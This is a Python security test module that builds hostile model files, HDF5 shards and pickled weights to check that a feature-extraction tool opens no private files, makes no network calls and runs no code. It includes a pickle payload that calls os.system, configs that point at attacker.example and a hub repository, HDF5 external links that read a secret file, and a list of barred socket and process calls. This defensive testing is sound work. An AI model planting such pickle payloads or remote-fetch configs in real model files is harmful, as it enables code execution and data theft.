"""Files from strangers that reach elsewhere: nothing is opened, asked over a network or run because a file says so."""

from __future__ import annotations

import contextlib
import copy
import ctypes
import dataclasses
import os
import pickle
import resource
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from . import sandbox, scenes
from .results import Escaped, Trial

ABOUT = "model files, shards, weights and checkpoints that name other files, hosts or code"
CI, COUNT = 6, 24
INSIDE = False

SECRET = "secret=4711"
BARRED = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "subprocess.Popen", "os.system", "os.exec")
BARRED += ("os.posix_spawn", "os.spawn", "os.fork", "urllib.Request", "ftplib.connect", "pty.spawn")
IN_OPEN, LIMIT, ROOM = 0x20, 30.0, 3 * 2**30
STRIDE = 7  # so that a few trials see something of everything
SMALL = ("-b", "test_resnet", "--input-size", "3", "32", "32", "--device", "cpu")


class Barred(BaseException):
    """Raised where a network or a program is asked for; libraries that try again on errors do not catch it."""


def prepare(folder: Path) -> dict[str, Any]:
    """A store and a model of a small network, a store of pixels, and a file that is nobody's business."""
    work = folder / "work"
    scenes.pictures(work / "data", 4)
    scenes.done("extract", "data", "-s", "net", *scenes.NETWORK, cwd=work)
    scenes.done("probe", "net", "-o", "net.safetensors", *scenes.RIDGE, cwd=work)
    scenes.done("extract", "data", "-s", "store", *scenes.PIXELS, cwd=work)
    scenes.done("probe", "store", "-o", "pixels.safetensors", *scenes.RIDGE, cwd=work)
    scenes.copy(work, folder / "sound")
    private = folder / "private"
    private.mkdir()
    (private / "private.txt").write_text(f"{SECRET}; nothing that anybody should see\n" * 40)
    os.mkfifo(private / "pipe")
    return {"work": work, "sound": folder / "sound", "private": private}


def attempt(bench: dict[str, Any], trial: Trial) -> None:
    """Make one hostile file, and give it to every command that reads such files."""
    name, work = list(VARIANTS)[trial.number * STRIDE % len(VARIANTS)], bench["work"]
    scenes.copy(bench["sound"], work)
    ended = sandbox.call(watched, name, work, bench["private"], folder=trial.folder / "child", limit=LIMIT)
    if ended.value is None:
        why = "hangs" if ended.late else f"ends the process with code {ended.code}"
        raise Escaped(f"{name}: {why}: {' '.join(ended.stderr.split())[-200:]}")
    said, events = ended.value
    if events:
        raise Escaped(f"{name}: {'; '.join(dict.fromkeys(events))}"[:400])
    for one in said:
        if one.code and not one.is_refusal and one.command[0] != "verify":
            raise Escaped(f"{name}: {one}")
        if SECRET in one.stdout + one.stderr:
            raise Escaped(f"{name}: {one.command[0]} shows what another file holds")
    for path in work.rglob("*"):
        if path.is_file() and SECRET.encode() in path.read_bytes() and path.name != "hostile.h5":
            raise Escaped(f"{name}: {path.name} holds what another file held")


def watched(name: str, work: Path, private: Path) -> tuple[list[sandbox.Said], list[str]]:
    """What the commands say of a hostile file, and what they did that nobody asked for."""
    commands = VARIANTS[name](work, private)
    events: list[str] = []
    opened = _opens(private)
    pages = int(Path("/proc/self/statm").read_text().split()[0])
    resource.setrlimit(resource.RLIMIT_AS, (pages * resource.getpagesize() + ROOM, resource.RLIM_INFINITY))
    now = [""]

    def hook(event: str, arguments: tuple[Any, ...]) -> None:
        if event in BARRED:
            events.append(f"{now[0]}: {event} {str(arguments[0])[:80]}")
            raise Barred

    sys.addaudithook(hook)
    said = []
    for command in commands:
        now[0] = command[0]
        with contextlib.suppress(Barred):
            said.append(sandbox.say(*command, cwd=work))
        events += [f"{command[0]} opens {file}" for file in opened()]
    return said, events


def _opens(folder: Path) -> Callable[[], list[str]]:
    """Watch a folder, by the kernel, which sees also what C libraries open; what it returns tells of the last opens."""
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.inotify_init1(os.O_NONBLOCK)
    for path in folder.iterdir():
        libc.inotify_add_watch(descriptor, os.fsencode(path), IN_OPEN)
    names = {number: path.name for number, path in enumerate(folder.iterdir(), start=1)}

    def last() -> list[str]:
        try:
            content = os.read(descriptor, 65_536)
        except BlockingIOError:
            return []
        return sorted({names[int.from_bytes(content[at : at + 4], "little")] for at in range(0, len(content), 16)})

    return last


def of_model(change: Callable[[dict[str, Any], Path], None]) -> Callable[[Path, Path], list[tuple[str, ...]]]:
    """A variant: a model file whose backbone is described in another way, with digests that fit."""

    def make(work: Path, private: Path) -> list[tuple[str, ...]]:
        from featurepipe import models
        from featurepipe.digests import sha256_json

        sound = models.load(work / "net.safetensors")
        backbone = copy.deepcopy(sound.backbone)
        backbone["source"]["random_seed"] = None
        change(backbone, private)
        backbone["fingerprint"] = sha256_json(backbone["spec"])
        models.save(work / "hostile.safetensors", dataclasses.replace(sound, backbone=backbone))
        given = "hostile.safetensors"
        return [
            *(("info", given), ("report", given, "-o", "out.html"), ("predict", given, "data", "-o", "out.csv")),
            *(("evaluate", given, "data"), ("extract", "data", "-s", "new", "-b", given)),
            ("finetune", given, "data", "-o", "out.safetensors", *scenes.TUNE),
        ]

    return make


def _names(name: str) -> Callable[[dict[str, Any], Path], None]:
    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["spec"]["architecture"] = backbone["source"]["name"] = backbone["name"] = name.format(private=private)

    return change


def _argues(**arguments: Any) -> Callable[[dict[str, Any], Path], None]:
    def fill(value: Any, private: Path) -> Any:
        if isinstance(value, dict):
            return {key: fill(inner, private) for key, inner in value.items()}
        return value.format(private=private) if isinstance(value, str) else value

    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["source"]["name"] = backbone["name"] = "test_resnet.r160_in1k"
        backbone["spec"]["arguments"] = fill(arguments, private)

    return change


def _weighs(file: str) -> Callable[[dict[str, Any], Path], None]:
    def change(backbone: dict[str, Any], private: Path) -> None:
        backbone["source"]["weights"] = str(private / file)

    return change


def _giant(backbone: dict[str, Any], private: Path) -> None:
    backbone["source"]["random_seed"] = 0
    backbone["spec"]["architecture"] = backbone["source"]["name"] = "vit_giant_patch14_dinov2"


def of_shard(change: Callable[[Any, Path], None]) -> Callable[[Path, Path], list[tuple[str, ...]]]:
    """A variant: a shard of format 1.0, which has no digest of the whole, with a part that lies elsewhere."""

    def make(work: Path, private: Path) -> list[tuple[str, ...]]:
        import h5py

        for path in sorted(work.glob("store/*/shard-*.h5")):
            with h5py.File(path, "r+", libver=("v110", "v110")) as file:
                if not len(file["reject_reasons"]):
                    continue
                for name in [name for name in file.attrs if "digest" in name or "sha256" in name]:
                    del file.attrs[name]
                file.attrs["encoding-version"] = np.bytes_(b"1.0")
                change(file, private)
        model = "pixels.safetensors"
        return [
            *(
                ("info", "store"),
                ("verify", "store"),
                ("evaluate", model, "store"),
                ("export", "store", "-o", "out.csv"),
            ),
            *(("extract", "data", "-s", "store", *scenes.PIXELS), ("verify", "store", "--repair")),
        ]

    return make


def _external(file: Any, private: Path, name: str = "private.txt") -> None:
    del file["reject_reasons"]
    file.create_dataset("reject_reasons", (1,), "S64", external=[(str(private / name), 0, 64)])


def _linked(file: Any, private: Path) -> None:
    import h5py

    other = private.parent / "work" / "hostile.h5"
    with h5py.File(other, "w") as made:
        made["reasons"] = np.array([SECRET.encode()], "S64")
    del file["reject_reasons"]
    file["reject_reasons"] = h5py.ExternalLink(str(other), "reasons")


def _claims(shape: tuple[int, int], name: str) -> Callable[[Any, Path], None]:
    def change(file: Any, private: Path) -> None:
        del file[name]
        file.create_dataset(
            name, shape, "u1" if name == "digests" else "<f4", chunks=tuple(min(size, 32) for size in shape)
        )

    return change


class _Runs:
    """An object that runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("echo ran",)


def of_weights(name: str) -> Callable[[Path, Path], list[tuple[str, ...]]]:
    """A variant: weights that are code."""

    def make(work: Path, private: Path) -> list[tuple[str, ...]]:
        import torch

        path = work / name
        if path.suffix == ".npz":
            np.savez(path, weight=np.array([_Runs()], object))
        elif "raw" in name:
            path.write_bytes(pickle.dumps(_Runs()))
        else:
            torch.save({"state_dict": {"conv.weight": torch.ones(1)}, "hook": _Runs()}, path)
        return [("extract", "data", "-s", "new", *SMALL, "--weights", name)]

    return make


def of_checkpoint(work: Path, private: Path) -> list[tuple[str, ...]]:
    """A variant: a checkpoint that is code, where a tuning looks for its own."""
    import torch

    (work / "out.tuning").mkdir()
    torch.save({"header": "{}", "tensors": _Runs()}, work / "out.tuning" / "checkpoint.pt")
    return [("finetune", "net", "-o", "out.safetensors", "--tune", "all", *scenes.TUNE)]


VARIANTS: dict[str, Callable[[Path, Path], list[tuple[str, ...]]]] = {
    "architecture of a hub": of_model(_names("hf-hub:attacker/repository")),
    "architecture of a hub, long": of_model(_names("hf_hub:attacker/repository@main")),
    "architecture of a folder": of_model(_names("local-dir:{private}")),
    "overlay with a url": of_model(_argues(pretrained_cfg_overlay={"url": "http://attacker.example/x.pth"})),
    "overlay with a file": of_model(_argues(pretrained_cfg_overlay={"file": "{private}/private.txt"})),
    "overlay with a hub": of_model(_argues(pretrained_cfg_overlay={"hf_hub_id": "attacker/repository"})),
    "configuration with a url": of_model(_argues(pretrained_cfg={"url": "http://attacker.example/x.pth"})),
    "checkpoint path": of_model(_argues(checkpoint_path="{private}/private.txt")),
    "cache folder": of_model(_argues(cache_dir="{private}/cache")),
    "weights elsewhere": of_model(_weighs("private.txt")),
    "weights in a pipe": of_model(_weighs("pipe")),
    "network of gigabytes": of_model(_giant),
    "external storage": of_shard(_external),
    "external storage in a pipe": of_shard(lambda file, private: _external(file, private, "pipe")),
    "external link": of_shard(_linked),
    "terabytes of digests": of_shard(_claims((2**37, 32), "digests")),
    "gigabytes of embeddings": of_shard(_claims((16, 2**26), "embeddings")),
    "pickle.pth": of_weights("pickle.pth"),
    "pickle.bin": of_weights("pickle.bin"),
    "raw pickle.pth": of_weights("raw.pth"),
    "pickle.npz": of_weights("pickle.npz"),
    "pickle in safetensors": of_weights("raw.safetensors"),
    "pickle in a checkpoint": of_checkpoint,
    "private folder as weights": of_model(_weighs("")),
}
